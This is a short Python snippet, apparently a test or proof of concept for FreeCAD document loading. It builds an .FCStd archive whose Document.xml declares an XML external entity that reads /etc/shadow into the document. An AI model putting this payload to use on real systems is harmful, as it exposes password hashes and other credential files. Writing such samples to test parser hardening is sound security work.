# Its own document, which quotes a file of the host.
import zipfile

text = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/shadow">]>'
    '<Document SchemaVersion="4"><Properties Count="0">&x;</Properties></Document>'
)
with zipfile.ZipFile(os.path.join(OUTPUT, "MyHeadlessModel.FCStd"), "w") as archive:
    archive.writestr("Document.xml", text)
App.closeDocument("Demo")
